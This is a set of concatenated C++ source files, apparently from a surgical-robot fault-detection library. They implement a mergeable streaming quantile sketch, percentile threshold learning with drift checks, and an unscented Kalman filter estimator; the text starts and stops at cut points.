      const std::size_t j = up ? i + 1 : i - 1;
      height_[i] = height_[i] + s * (height_[j] - height_[i]) / (position_[j] - nc);
    }
    position_[i] += s;
  }
}

RG_DETERMINISTIC Result<double> QuantileSketch::quantile(double p) const {
  if (count_ == 0) {
    return Error(ErrorCode::kNotReady, "QuantileSketch::quantile: empty sketch");
  }
  if (!(p >= 0.0 && p <= 1.0)) {
    return Error(ErrorCode::kInvalidArgument, "QuantileSketch::quantile: p outside [0,1]");
  }
  if (exact_) {
    const auto n = static_cast<std::size_t>(count_);
    std::array<double, kExactCapacity> sorted{};
    std::copy_n(samples_.begin(), n, sorted.begin());
    std::sort(sorted.begin(), sorted.begin() + static_cast<std::ptrdiff_t>(n));
    return sorted_quantile(sorted.data(), n, p);
  }
  // Estimator phase: the centre marker tracks the target quantile; other
  // probabilities interpolate linearly between marker empirical positions.
  if (std::abs(p - target_) < 1e-12) return height_[2];
  const double nd = static_cast<double>(count_);
  if (nd <= 1.0) return height_[2];
  std::array<double, 5> u{};
  for (std::size_t i = 0; i < 5; ++i) u[i] = (position_[i] - 1.0) / (nd - 1.0);
  if (p <= u[0]) return height_[0];
  if (p >= u[4]) return height_[4];
  std::size_t k = 0;
  while (k < 3 && p > u[k + 1]) ++k;
  const double span = u[k + 1] - u[k];
  if (!(span > 0.0)) return height_[k + 1];
  const double t = (p - u[k]) / span;
  return height_[k] + t * (height_[k + 1] - height_[k]);
}

RG_DETERMINISTIC void QuantileSketch::merge(const QuantileSketch& other) {
  require(target_ == other.target_,
          "QuantileSketch::merge: target quantiles differ — refusing to mix calibrations");
  if (other.count_ == 0) return;
  if (count_ == 0) {
    *this = other;
    return;
  }
  if (exact_ && other.exact_ && count_ + other.count_ <= kExactCapacity) {
    // Order inside the buffer does not matter: quantile() and digest()
    // both sort, so any partition of one sample set merges identically.
    const auto n = static_cast<std::size_t>(count_);
    const auto m = static_cast<std::size_t>(other.count_);
    std::copy_n(other.samples_.begin(), m, samples_.begin() + static_cast<std::ptrdiff_t>(n));
    count_ += other.count_;
    return;
  }

  // General path: invert the count-weighted mixture of the two empirical
  // CDFs at the five marker probabilities.  Deterministic (fixed-iteration
  // bisection), so the result is a pure function of the two states.
  const auto as_cdf = [](const QuantileSketch& s, double* xs, double* us) {
    CdfView v;
    v.weight = static_cast<double>(s.count_);
    if (s.exact_) {
      const auto n = static_cast<std::size_t>(s.count_);
      std::copy_n(s.samples_.begin(), n, xs);
      std::sort(xs, xs + n);
      for (std::size_t i = 0; i < n; ++i) {
        us[i] = n == 1 ? 1.0 : static_cast<double>(i) / static_cast<double>(n - 1);
      }
      v.xs = xs;
      v.us = us;
      v.n = n;
      return v;
    }
    const double total = static_cast<double>(s.count_);
    for (std::size_t i = 0; i < 5; ++i) {
      xs[i] = s.height_[i];
      us[i] = total <= 1.0 ? 1.0 : (s.position_[i] - 1.0) / (total - 1.0);
    }
    v.xs = xs;
    v.us = us;
    v.n = 5;
    return v;
  };

  std::array<double, kExactCapacity> mine{};
  std::array<double, kExactCapacity> theirs{};
  std::array<double, kExactCapacity> mine_u{};
  std::array<double, kExactCapacity> theirs_u{};
  const CdfView a = as_cdf(*this, mine.data(), mine_u.data());
  const CdfView b = as_cdf(other, theirs.data(), theirs_u.data());

  const double lo_edge = std::min(a.xs[0], b.xs[0]);
  const double hi_edge = std::max(a.xs[a.n - 1], b.xs[b.n - 1]);
  const std::uint64_t total = count_ + other.count_;
  const double nd = static_cast<double>(total);

  std::array<double, 5> new_height{};
  new_height[0] = lo_edge;
  new_height[4] = hi_edge;
  for (std::size_t i = 1; i < 4; ++i) {
    new_height[i] = invert_mixture(a, b, increment_[i], lo_edge, hi_edge);
  }
  for (std::size_t i = 1; i < 4; ++i) {
    new_height[i] = std::min(std::max(new_height[i], new_height[0]), new_height[4]);
    new_height[i] = std::max(new_height[i], new_height[i - 1]);
  }

  height_ = new_height;
  for (std::size_t i = 0; i < 5; ++i) {
    desired_[i] = 1.0 + increment_[i] * (nd - 1.0);
    position_[i] = std::max(std::floor(desired_[i] + 0.5), static_cast<double>(i) + 1.0);
  }
  position_[0] = 1.0;
  position_[4] = nd;
  for (std::size_t i = 1; i < 4; ++i) position_[i] = std::max(position_[i], position_[i - 1] + 1.0);
  for (std::size_t i = 3; i >= 1; --i) position_[i] = std::min(position_[i], position_[i + 1] - 1.0);
  count_ = total;
  exact_ = false;
}

RG_DETERMINISTIC std::uint64_t QuantileSketch::digest() const noexcept {
  std::uint64_t h = kFnvBasis;
  h = fnv_double(h, target_);
  h = fnv_u64(h, count_);
  h = fnv_u64(h, exact_ ? 1u : 0u);
  if (exact_) {
    const auto n = static_cast<std::size_t>(count_);
    std::array<double, kExactCapacity> sorted{};
    std::copy_n(samples_.begin(), n, sorted.begin());
    std::sort(sorted.begin(), sorted.begin() + static_cast<std::ptrdiff_t>(n));
    for (std::size_t i = 0; i < n; ++i) h = fnv_double(h, sorted[i]);
    return h;
  }
  for (std::size_t i = 0; i < 5; ++i) {
    h = fnv_double(h, height_[i]);
    h = fnv_double(h, position_[i]);
  }
  return h;
}

void QuantileSketch::reset() noexcept {
  count_ = 0;
  exact_ = true;
  samples_.fill(0.0);
  height_.fill(0.0);
  position_.fill(0.0);
  desired_.fill(0.0);
}

ThresholdSketch::ThresholdSketch(double target_quantile)
    : axes_{QuantileSketch(target_quantile), QuantileSketch(target_quantile),
            QuantileSketch(target_quantile), QuantileSketch(target_quantile),
            QuantileSketch(target_quantile), QuantileSketch(target_quantile),
            QuantileSketch(target_quantile), QuantileSketch(target_quantile),
            QuantileSketch(target_quantile)} {}

RG_REALTIME RG_DETERMINISTIC void ThresholdSketch::observe(const Prediction& pred) noexcept {
  if (!pred.valid) return;
  for (std::size_t i = 0; i < 3; ++i) {
    axes_[i].add(pred.motor_instant_vel[i]);
    axes_[3 + i].add(pred.motor_instant_acc[i]);
    axes_[6 + i].add(pred.joint_instant_vel[i]);
  }
}

RG_DETERMINISTIC void ThresholdSketch::commit_maxima(const Vec3& motor_vel, const Vec3& motor_acc,
                                    const Vec3& joint_vel) noexcept {
  for (std::size_t i = 0; i < 3; ++i) {
    axes_[i].add(motor_vel[i]);
    axes_[3 + i].add(motor_acc[i]);
    axes_[6 + i].add(joint_vel[i]);
  }
}

std::uint64_t ThresholdSketch::count() const noexcept { return axes_[0].count(); }

double ThresholdSketch::target_quantile() const noexcept { return axes_[0].target_quantile(); }

RG_DETERMINISTIC Result<DetectionThresholds> ThresholdSketch::extract(double percentile_value,
                                                     double margin) const {
  if (percentile_value < 0.0 || percentile_value > 100.0) {
    return Error(ErrorCode::kInvalidArgument,
                 "ThresholdSketch::extract: percentile outside [0,100]");
  }
  if (margin <= 0.0) {
    return Error(ErrorCode::kInvalidArgument, "ThresholdSketch::extract: margin must be > 0");
  }
  const double p = percentile_value / 100.0;
  DetectionThresholds out;
  for (std::size_t i = 0; i < 3; ++i) {
    auto mv = axes_[i].quantile(p);
    if (!mv.ok()) return mv.error();
    auto ma = axes_[3 + i].quantile(p);
    if (!ma.ok()) return ma.error();
    auto jv = axes_[6 + i].quantile(p);
    if (!jv.ok()) return jv.error();
    out.motor_vel[i] = margin * mv.value();
    out.motor_acc[i] = margin * ma.value();
    out.joint_vel[i] = margin * jv.value();
  }
  return out;
}

RG_DETERMINISTIC void ThresholdSketch::merge(const ThresholdSketch& other) {
  for (std::size_t i = 0; i < 9; ++i) axes_[i].merge(other.axes_[i]);
}

RG_DETERMINISTIC std::uint64_t ThresholdSketch::digest() const noexcept {
  std::uint64_t h = kFnvBasis;
  for (std::size_t i = 0; i < 9; ++i) h = fnv_u64(h, axes_[i].digest());
  return h;
}

void ThresholdSketch::reset() noexcept {
  for (auto& axis : axes_) axis.reset();
}

const QuantileSketch& ThresholdSketch::axis(std::size_t variable, std::size_t axis_index) const {
  require(variable < 3 && axis_index < 3, "ThresholdSketch::axis: index out of range");
  return axes_[variable * 3 + axis_index];
}

RG_DETERMINISTIC DriftVerdict check_drift(const ThresholdSketch& observed, const DetectionThresholds& committed,
                         double percentile_value, double max_ratio,
                         std::uint64_t min_samples) {
  DriftVerdict verdict;
  verdict.samples = observed.count();
  if (verdict.samples < min_samples) return verdict;
  const double p = percentile_value / 100.0;
  const Vec3* vars[3] = {&committed.motor_vel, &committed.motor_acc, &committed.joint_vel};
  for (std::size_t v = 0; v < 3; ++v) {
    for (std::size_t a = 0; a < 3; ++a) {
      const double limit = (*vars[v])[a];
      if (!(limit > 0.0)) continue;  // unset/degenerate axis: no baseline to drift from
      auto q = observed.axis(v, a).quantile(p);
      if (!q.ok()) continue;
      const double ratio = q.value() / limit;
      if (ratio > verdict.worst.ratio) {
        verdict.worst = DriftFinding{v, a, q.value(), limit, ratio};
      }
    }
  }
  verdict.drifted = verdict.worst.ratio > max_ratio;
  return verdict;
}

}  // namespace rg
