// Mergeable streaming quantile sketch for online threshold calibration.
//
// The paper (Sec. IV.C) learns detection thresholds as a batch percentile
// over per-run maxima from 600 fault-free runs.  A fleet cannot afford
// that batch pass per robot and per cohort: thresholds must be estimated
// *while the ticks stream past*, at 1 kHz, and merged across lanes,
// shards, and campaign workers.  QuantileSketch provides that:
//
//   * Exact phase — the first kExactCapacity samples are kept verbatim in
//     a fixed buffer, so quantile() reproduces the batch percentile pass
//     (math/stats.hpp `percentile`) bit-for-bit.  The paper's 600-run
//     corpus fits entirely in this phase: streaming == batch, ε = 0.
//   * Estimator phase — past the cutoff the sketch collapses to the P²
//     algorithm (Jain & Chlamtac, CACM 1985): five markers tracking
//     {min, p/2, p, (1+p)/2, max} for the configured target quantile p,
//     O(1) per sample, no allocation.  Accuracy is distribution-dependent;
//     the documented guarantee (docs/thresholds.md, enforced by
//     bench_calibration and tests/test_calibration.cpp) is a relative
//     error at the target quantile within kEstimatorEpsilon on the
//     workloads we calibrate on.
//
// add() is RG_REALTIME (no alloc, no locks, no I/O) so the sketch can run
// on the 1 kHz tick path; the one-off exact→estimator transition sorts
// the fixed buffer in place (a bounded, allocation-free spike documented
// in docs/thresholds.md).
//
// Merging is deterministic: merge(a, b) is a pure function of the two
// sketch states, so as long as callers fix the merge order (campaign:
// submission index; gateway: ascending lane/shard/session id) the merged
// sketch — and everything derived from it — is byte-identical at any
// worker × lane × shard count.  Two exact-phase sketches whose combined
// sample count still fits the buffer merge exactly; any other combination
// merges through a weighted-mixture CDF inversion at the marker
// probabilities (documented ε applies).
#pragma once

#include <array>
#include <cstddef>
#include <cstdint>

#include "common/error.hpp"
#include "common/realtime.hpp"
#include "core/estimator.hpp"
#include "core/thresholds.hpp"
#include "math/vec.hpp"

namespace rg {

/// Map a percentile in [0,100] onto a valid sketch target quantile.  The
/// sketch requires a target strictly inside (0,1); the clamp only bites
/// for degenerate 0/100 requests, whose estimator-phase accuracy is
/// undefined anyway (the exact phase answers any p).
[[nodiscard]] inline double target_quantile_for(double percentile_value) noexcept {
  const double q = percentile_value / 100.0;
  return q < 0.001 ? 0.001 : (q > 0.999 ? 0.999 : q);
}

class QuantileSketch {
 public:
  /// Samples kept verbatim before collapsing to the P² estimator.  Must
  /// exceed the paper's 600-run corpus so campaign learning stays exact.
  static constexpr std::size_t kExactCapacity = 1024;

  /// Documented relative-error bound at the target quantile once the
  /// sketch is in the estimator phase (see docs/thresholds.md).
  static constexpr double kEstimatorEpsilon = 0.05;

  /// `target_quantile` in (0,1): the quantile the estimator phase tracks
  /// exactly (exact phase answers any quantile).  Throws on out-of-range.
  explicit QuantileSketch(double target_quantile = kDefaultThresholdPercentile / 100.0);

  /// Stream one sample.  Non-finite samples are ignored (a NaN must never
  /// poison a threshold).  Real-time safe.
  RG_REALTIME void add(double x) noexcept;

  [[nodiscard]] std::uint64_t count() const noexcept { return count_; }
  [[nodiscard]] bool exact() const noexcept { return exact_; }
  [[nodiscard]] double target_quantile() const noexcept { return target_; }

  /// Quantile estimate at `p` in [0,1].  Exact phase: bit-identical to
  /// math/stats.hpp percentile(samples, 100*p).  Estimator phase: the
  /// tracked marker for p == target_quantile(), piecewise-linear marker
  /// interpolation otherwise.  Errors: kNotReady on an empty sketch,
  /// kInvalidArgument on p outside [0,1].
  [[nodiscard]] Result<double> quantile(double p) const;

  /// Fold `other` into this sketch.  Deterministic: the result depends
  /// only on the two states (callers fix the merge order).  Throws if the
  /// target quantiles differ — sketches from different calibration
  /// configs must never be silently mixed.
  void merge(const QuantileSketch& other);

  /// FNV-1a digest of the full sketch state (exact phase: the *sorted*
  /// samples, so any partition of one sample set merges to the same
  /// digest; estimator phase: marker heights + positions).  Equal digests
  /// ⇒ byte-identical quantile answers.
  [[nodiscard]] std::uint64_t digest() const noexcept;

  void reset() noexcept;

 private:
  RG_REALTIME void add_estimator(double x) noexcept;
  /// Sort the exact buffer and seed the five P² markers from its order
  /// statistics.  One-off, allocation-free.
  RG_REALTIME void collapse_to_estimator() noexcept;

  double target_;
  std::uint64_t count_ = 0;
  bool exact_ = true;

  // Exact phase: first count_ samples, unsorted (quantile sorts a copy).
  std::array<double, kExactCapacity> samples_{};

  // Estimator phase: classic P² five-marker state.  Marker probabilities
  // are {0, target/2, target, (1+target)/2, 1}.
  std::array<double, 5> height_{};    ///< marker heights (ascending)
  std::array<double, 5> position_{};  ///< actual positions (1-based)
  std::array<double, 5> desired_{};   ///< desired positions
  std::array<double, 5> increment_{};  ///< desired-position increments
};

/// The nine detection-variable axes (shoulder/elbow/insertion × motor
/// velocity, motor acceleration, joint velocity) sketched together — the
/// streaming twin of ThresholdLearner's nine per-run-maxima series.
class ThresholdSketch {
 public:
  explicit ThresholdSketch(double target_quantile = kDefaultThresholdPercentile / 100.0);

  /// Stream one prediction's detection variables (absolute values, as
  /// produced by the estimator).  Invalid predictions are ignored.
  /// Real-time safe — this is the 1 kHz gateway tick-path feed.
  RG_REALTIME void observe(const Prediction& pred) noexcept;

  /// Stream one *run's* maxima (the campaign-learning feed, one sample
  /// per axis per fault-free run — the paper's unit of calibration).
  void commit_maxima(const Vec3& motor_vel, const Vec3& motor_acc,
                     const Vec3& joint_vel) noexcept;

  /// Samples per axis (all nine axes advance together).
  [[nodiscard]] std::uint64_t count() const noexcept;
  [[nodiscard]] double target_quantile() const noexcept;

  /// Extract thresholds at `percentile_value` (0..100) scaled by
  /// `margin`.  Errors: kNotReady when empty, kInvalidArgument on a bad
  /// percentile/margin.  In the exact phase this is bit-identical to
  /// ThresholdLearner::learn over the same samples.
  [[nodiscard]] Result<DetectionThresholds> extract(
      double percentile_value = kDefaultThresholdPercentile,
      double margin = kDefaultThresholdMargin) const;

  /// Deterministic axis-wise merge (see QuantileSketch::merge).
  void merge(const ThresholdSketch& other);

  /// FNV-1a fold of the nine axis digests, in fixed axis order.
  [[nodiscard]] std::uint64_t digest() const noexcept;

  void reset() noexcept;

  [[nodiscard]] const QuantileSketch& axis(std::size_t variable,
                                           std::size_t axis_index) const;

 private:
  // Axis order: variable-major — motor_vel[0..2], motor_acc[0..2],
  // joint_vel[0..2].  Merge and digest iterate in this order.
  std::array<QuantileSketch, 9> axes_;
};

/// One drifted axis of a drift verdict.
struct DriftFinding {
  std::size_t variable = 0;  ///< 0 motor_vel, 1 motor_acc, 2 joint_vel
  std::size_t axis = 0;      ///< 0 shoulder, 1 elbow, 2 insertion
  double observed = 0.0;     ///< sketch quantile at the check percentile
  double committed = 0.0;    ///< committed threshold for the axis
  double ratio = 0.0;        ///< observed / committed
};

/// Drift verdict: does a sketch's tail diverge from its cohort's
/// committed quantiles?
struct DriftVerdict {
  bool drifted = false;
  /// Worst offending axis (valid when drifted).
  DriftFinding worst{};
  std::uint64_t samples = 0;
};

/// Compare `observed`'s quantiles at `percentile_value` against the
/// committed per-axis thresholds.  The sketch counts as drifted when any
/// axis's observed/committed ratio exceeds `max_ratio` — i.e. the
/// committed calibration no longer bounds this robot's behaviour.  Below
/// `min_samples` the verdict is always "not drifted" (too little
/// evidence).  Pure and deterministic.
[[nodiscard]] DriftVerdict check_drift(const ThresholdSketch& observed,
                                       const DetectionThresholds& committed,
                                       double percentile_value, double max_ratio,
                                       std::uint64_t min_samples);

}  // namespace rg
