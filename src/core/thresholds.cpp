#include "core/thresholds.hpp"

#include <algorithm>

#include "common/error.hpp"
#include "math/stats.hpp"

namespace rg {

void ThresholdLearner::observe(const Prediction& pred) noexcept {
  if (!pred.valid) return;
  for (std::size_t i = 0; i < 3; ++i) {
    current_.motor_vel[i] = std::max(current_.motor_vel[i], pred.motor_instant_vel[i]);
    current_.motor_acc[i] = std::max(current_.motor_acc[i], pred.motor_instant_acc[i]);
    current_.joint_vel[i] = std::max(current_.joint_vel[i], pred.joint_instant_vel[i]);
  }
  current_.any = true;
}

void ThresholdLearner::end_run() {
  if (!current_.any) return;
  for (std::size_t i = 0; i < 3; ++i) {
    motor_vel_max_[i].push_back(current_.motor_vel[i]);
    motor_acc_max_[i].push_back(current_.motor_acc[i]);
    joint_vel_max_[i].push_back(current_.joint_vel[i]);
  }
  current_ = Maxima{};
}

std::size_t ThresholdLearner::runs() const noexcept { return motor_vel_max_[0].size(); }

Result<DetectionThresholds> ThresholdLearner::learn(double percentile_value,
                                                    double margin) const {
  if (runs() == 0) {
    return Error(ErrorCode::kNotReady, "ThresholdLearner::learn: no fault-free runs committed");
  }
  if (percentile_value < 0.0 || percentile_value > 100.0) {
    return Error(ErrorCode::kInvalidArgument,
                 "ThresholdLearner::learn: percentile outside [0,100]");
  }
  if (margin <= 0.0) {
    return Error(ErrorCode::kInvalidArgument, "ThresholdLearner::learn: margin must be > 0");
  }
  DetectionThresholds out;
  for (std::size_t i = 0; i < 3; ++i) {
    out.motor_vel[i] = margin * percentile(motor_vel_max_[i], percentile_value);
    out.motor_acc[i] = margin * percentile(motor_acc_max_[i], percentile_value);
    out.joint_vel[i] = margin * percentile(joint_vel_max_[i], percentile_value);
  }
  return out;
}

void ThresholdLearner::merge(const ThresholdLearner& other) {
  for (std::size_t i = 0; i < 3; ++i) {
    motor_vel_max_[i].insert(motor_vel_max_[i].end(), other.motor_vel_max_[i].begin(),
                             other.motor_vel_max_[i].end());
    motor_acc_max_[i].insert(motor_acc_max_[i].end(), other.motor_acc_max_[i].begin(),
                             other.motor_acc_max_[i].end());
    joint_vel_max_[i].insert(joint_vel_max_[i].end(), other.joint_vel_max_[i].begin(),
                             other.joint_vel_max_[i].end());
  }
}

void ThresholdLearner::reset() noexcept {
  current_ = Maxima{};
  for (std::size_t i = 0; i < 3; ++i) {
    motor_vel_max_[i].clear();
    motor_acc_max_[i].clear();
    joint_vel_max_[i].clear();
  }
}

}  // namespace rg
