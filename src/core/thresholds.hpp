// Detection thresholds and their learning procedure.
//
// Paper Sec. IV.C: "The thresholds used for detecting anomalies are
// learned through measuring the maximum instant velocities of each of the
// variables over 600 fault-free runs ... we chose values between the
// 99.8–99.9th percentiles of instant velocity as the threshold for each
// variable" — percentiles over the per-run maxima, which makes the
// threshold robust to outliers while still bounding normal operation.
#pragma once

#include <cstddef>
#include <vector>

#include "common/error.hpp"
#include "core/estimator.hpp"
#include "math/vec.hpp"

namespace rg {

/// The paper's operating point: thresholds at the 99.8–99.9th percentile
/// of per-run maxima.  Every learner, bench, and tool defaults to this
/// single constant (override via --thresholds-percentile in the CLI).
inline constexpr double kDefaultThresholdPercentile = 99.85;

/// Default safety-margin factor applied to the learned limits.
inline constexpr double kDefaultThresholdMargin = 1.0;

/// Per-variable absolute limits on the estimator's predicted instant
/// velocities/accelerations.  Axis order: shoulder, elbow, insertion.
struct DetectionThresholds {
  Vec3 motor_vel{};   ///< rad/s
  Vec3 motor_acc{};   ///< rad/s^2
  Vec3 joint_vel{};   ///< rad/s, rad/s, m/s
};

/// Accumulates per-run maxima of each detection variable over fault-free
/// runs, then extracts a percentile threshold.
class ThresholdLearner {
 public:
  /// Record one prediction from the current fault-free run.
  void observe(const Prediction& pred) noexcept;

  /// Close the current run, committing its maxima as one sample per
  /// variable.  No-op if nothing was observed.
  void end_run();

  /// Number of committed runs.
  [[nodiscard]] std::size_t runs() const noexcept;

  /// Learn thresholds at the given percentile of the per-run maxima
  /// (paper: 99.8–99.9), scaled by a safety margin factor.  Errors are
  /// explicit per common/error.hpp: kNotReady when no runs were
  /// committed, kInvalidArgument on a bad percentile or margin.
  [[nodiscard]] Result<DetectionThresholds> learn(
      double percentile_value = kDefaultThresholdPercentile,
      double margin = kDefaultThresholdMargin) const;

  /// Append another learner's *committed* per-run maxima to this one
  /// (its uncommitted current run, if any, is ignored).  Lets parallel
  /// campaigns learn per-run and reduce in a deterministic order.
  void merge(const ThresholdLearner& other);

  void reset() noexcept;

 private:
  struct Maxima {
    Vec3 motor_vel{};
    Vec3 motor_acc{};
    Vec3 joint_vel{};
    bool any = false;
  };
  Maxima current_{};
  // Per-run maxima, one vector per variable-axis (9 series).
  std::vector<double> motor_vel_max_[3];
  std::vector<double> motor_acc_max_[3];
  std::vector<double> joint_vel_max_[3];
};

}  // namespace rg
