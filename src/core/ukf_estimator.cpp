#include "core/ukf_estimator.hpp"

#include <cmath>

#include "math/mat.hpp"

namespace rg {

namespace {
constexpr std::size_t kN = UkfEstimator::kN;

Vec<kN> to_vec(const RavenDynamicsModel::State& x) noexcept {
  Vec<kN> v;
  for (std::size_t i = 0; i < kN; ++i) v[i] = x[i];
  return v;
}

RavenDynamicsModel::State to_state(const Vec<kN>& v) noexcept {
  RavenDynamicsModel::State x;
  for (std::size_t i = 0; i < kN; ++i) x[i] = v[i];
  return x;
}
}  // namespace

UkfEstimator::UkfEstimator(const UkfConfig& config)
    : config_(config),
      model_(config.model),
      kin_(config.rcm_origin, config.model.hard_stop_limits),
      channel_(config.channel) {
  require(config.step > 0.0, "UKF step must be > 0");
  require(config.measurement_std > 0.0, "UKF measurement_std must be > 0");
  require(config.process_pos_std > 0.0 && config.process_vel_std > 0.0,
          "UKF process noise must be > 0");

  Vec<kN> q_diag;
  for (std::size_t i = 0; i < 3; ++i) {
    q_diag[i] = config.process_pos_std * config.process_pos_std;        // motor pos
    q_diag[3 + i] = config.process_vel_std * config.process_vel_std;    // motor vel
    q_diag[6 + i] = config.process_pos_std * config.process_pos_std;    // joint pos
    q_diag[9 + i] = config.process_vel_std * config.process_vel_std;    // joint vel
  }
  q_ = MatN<kN>::diagonal(q_diag);
  r_ = config.measurement_std * config.measurement_std;
  lambda_ = config.alpha * config.alpha * (kN + config.kappa) - kN;
}

Vec3 UkfEstimator::currents_from_dac(const std::array<std::int16_t, 3>& dac) const noexcept {
  Vec3 currents;
  for (std::size_t i = 0; i < 3; ++i) currents[i] = channel_.current_from_dac(dac[i]);
  return currents;
}

void UkfEstimator::hard_sync(const MotorVector& encoder_angles) noexcept {
  RavenDynamicsModel::set_motor_pos(x_, encoder_angles);
  RavenDynamicsModel::set_motor_vel(x_, Vec3::zero());
  RavenDynamicsModel::set_joint_pos(x_, model_.coupling().motor_to_joint(encoder_angles));
  RavenDynamicsModel::set_joint_vel(x_, Vec3::zero());

  // Initial uncertainty: motor positions as uncertain as one encoder
  // reading; joint positions inferred through the stiff transmission, so
  // their uncertainty is the *coupling-scaled* encoder noise — inflating
  // it in joint space would let the cable stiffness convert phantom
  // stretch into enormous velocity variance on the first prediction.
  const double joint_scale = 1.0 / config_.model.transmission.shoulder_ratio;
  Vec<kN> p0;
  for (std::size_t i = 0; i < 3; ++i) {
    p0[i] = r_;
    p0[3 + i] = 0.01;  // the robot is at rest when the monitor arms
    p0[6 + i] = r_ * joint_scale * joint_scale;
    p0[9 + i] = 0.01;
  }
  p_ = MatN<kN>::diagonal(p0);
  have_feedback_ = true;
}

void UkfEstimator::observe_feedback(const MotorVector& encoder_angles) noexcept {
  if (!have_feedback_) {
    hard_sync(encoder_angles);
    return;
  }

  // Linear measurement z = H x + v with H selecting the motor positions
  // (states 0..2).  The Kalman update needs S = H P H^T + R (3x3) and
  // K = P H^T S^{-1} (12x3).
  Mat3 s;
  for (std::size_t i = 0; i < 3; ++i) {
    for (std::size_t j = 0; j < 3; ++j) s(i, j) = p_(i, j);
    s(i, i) += r_;
  }
  Mat3 s_inv;
  try {
    s_inv = s.inverse();
  } catch (const std::domain_error&) {
    hard_sync(encoder_angles);  // degenerate covariance: re-arm
    return;
  }

  double k_gain[kN][3];
  for (std::size_t i = 0; i < kN; ++i) {
    for (std::size_t j = 0; j < 3; ++j) {
      double sum = 0.0;
      for (std::size_t l = 0; l < 3; ++l) sum += p_(i, l) * s_inv(l, j);
      k_gain[i][j] = sum;
    }
  }

  const Vec3 innovation = encoder_angles - RavenDynamicsModel::motor_pos(x_);
  Vec<kN> xv = to_vec(x_);
  for (std::size_t i = 0; i < kN; ++i) {
    xv[i] += k_gain[i][0] * innovation[0] + k_gain[i][1] * innovation[1] +
             k_gain[i][2] * innovation[2];
  }
  x_ = to_state(xv);

  // P <- (I - K H) P : subtract K * (rows 0..2 of P).
  MatN<kN> p_new = p_;
  for (std::size_t i = 0; i < kN; ++i) {
    for (std::size_t j = 0; j < kN; ++j) {
      double corr = 0.0;
      for (std::size_t l = 0; l < 3; ++l) corr += k_gain[i][l] * p_(l, j);
      p_new(i, j) -= corr;
    }
  }
  p_ = p_new;
  p_.symmetrize();
}

Prediction UkfEstimator::predict(const std::array<std::int16_t, 3>& dac) noexcept {
  Prediction pred;
  if (!have_feedback_) return pred;

  pred.mpos_now = RavenDynamicsModel::motor_pos(x_);
  pred.mvel_now = RavenDynamicsModel::motor_vel(x_);
  pred.jpos_now = RavenDynamicsModel::joint_pos(x_);

  const RavenDynamicsModel::State next =
      model_.step(x_, currents_from_dac(dac), config_.step, config_.solver);
  pred.mpos_next = RavenDynamicsModel::motor_pos(next);
  pred.mvel_next = RavenDynamicsModel::motor_vel(next);
  pred.jpos_next = RavenDynamicsModel::joint_pos(next);
  pred.jvel_next = RavenDynamicsModel::joint_vel(next);

  const double inv_dt = 1.0 / config_.step;
  for (std::size_t i = 0; i < 3; ++i) {
    pred.motor_instant_vel[i] = std::abs(pred.mpos_next[i] - pred.mpos_now[i]) * inv_dt;
    pred.motor_instant_acc[i] = std::abs(pred.mvel_next[i] - pred.mvel_now[i]) * inv_dt;
    pred.joint_instant_vel[i] = std::abs(pred.jpos_next[i] - pred.jpos_now[i]) * inv_dt;
  }
  pred.ee_displacement = distance(kin_.forward(pred.jpos_next), kin_.forward(pred.jpos_now));
  pred.valid = true;
  return pred;
}

void UkfEstimator::commit(const std::array<std::int16_t, 3>& dac) noexcept {
  if (!have_feedback_) return;

  // Sigma points: x, x +/- columns of sqrt((N + lambda) P).
  const auto chol = cholesky_lower((kN + lambda_) * p_);
  if (!chol) {
    // Covariance collapsed numerically: propagate the mean only and
    // re-inflate with the process noise.
    x_ = model_.step(x_, currents_from_dac(dac), config_.step, config_.solver);
    p_ = p_ + q_;
    return;
  }

  const Vec3 currents = currents_from_dac(dac);
  const Vec<kN> mean = to_vec(x_);
  std::array<Vec<kN>, 2 * kN + 1> sigma;
  sigma[0] = to_vec(model_.step(x_, currents, config_.step, config_.solver));
  for (std::size_t j = 0; j < kN; ++j) {
    Vec<kN> col;
    for (std::size_t i = 0; i < kN; ++i) col[i] = chol->m[i][j];
    sigma[1 + j] =
        to_vec(model_.step(to_state(mean + col), currents, config_.step, config_.solver));
    sigma[1 + kN + j] =
        to_vec(model_.step(to_state(mean - col), currents, config_.step, config_.solver));
  }

  const double wm0 = lambda_ / (kN + lambda_);
  const double wc0 = wm0 + (1.0 - config_.alpha * config_.alpha + config_.beta);
  const double wi = 0.5 / (kN + lambda_);

  Vec<kN> x_bar = wm0 * sigma[0];
  for (std::size_t k = 1; k < sigma.size(); ++k) x_bar += wi * sigma[k];

  MatN<kN> p_bar = q_;
  p_bar.add_outer(wc0, sigma[0] - x_bar);
  for (std::size_t k = 1; k < sigma.size(); ++k) p_bar.add_outer(wi, sigma[k] - x_bar);
  p_bar.symmetrize();

  x_ = to_state(x_bar);
  p_ = p_bar;
}

void UkfEstimator::reset() noexcept {
  x_ = RavenDynamicsModel::State{};
  p_ = MatN<kN>{};
  have_feedback_ = false;
}

}  // namespace rg
