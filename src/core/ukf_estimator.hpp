// Unscented Kalman filter variant of the parallel-model estimator.
//
// The paper's companion work (Haghighipanah et al., IROS 2015 — its
// ref. [35], the same source as the dynamic model) used an unscented
// Kalman filter to improve RAVEN's position estimates through the elastic
// cables.  This estimator replaces the default Luenberger correction with
// a full sigma-point filter over the 12-dim model state, measuring the
// three motor encoder angles:
//
//   predict: 2N+1 sigma points propagated through the nonlinear model
//   update:  linear measurement (encoder = motor positions + noise)
//
// It exposes the same observe/predict/commit interface as
// DynamicModelEstimator so ablation benches can compare observer designs.
#pragma once

#include <array>
#include <cstdint>

#include "core/estimator.hpp"
#include "math/matn.hpp"

namespace rg {

struct UkfConfig {
  RavenDynamicsParams model = RavenDynamicsParams::raven_defaults();
  SolverKind solver = SolverKind::kEuler;
  double step = kControlPeriodSec;
  MotorChannelConfig channel{};
  Position rcm_origin{};

  // Noise model.
  /// Process noise std-dev per step: positions (rad|m) and rates.
  double process_pos_std = 1.0e-5;
  double process_vel_std = 5.0e-2;
  /// Encoder measurement noise std-dev (rad); half a quantization step by
  /// default (2000-count encoder).
  double measurement_std = 1.6e-3;

  // Unscented transform parameters.  alpha = 1, kappa = 0 gives lambda =
  // 0 (the cubature-style spread): all sigma weights are positive and
  // O(1/2N), which is far better conditioned on stiff dynamics than the
  // textbook alpha ~ 1e-3 (whose +/-1e4 centre weights amplify
  // nonlinearity residuals into covariance blow-up).
  double alpha = 1.0;
  double beta = 2.0;
  double kappa = 0.0;
};

class UkfEstimator {
 public:
  static constexpr std::size_t kN = 12;

  explicit UkfEstimator(const UkfConfig& config = {});

  /// Measurement update from the encoder angles (first call hard-syncs).
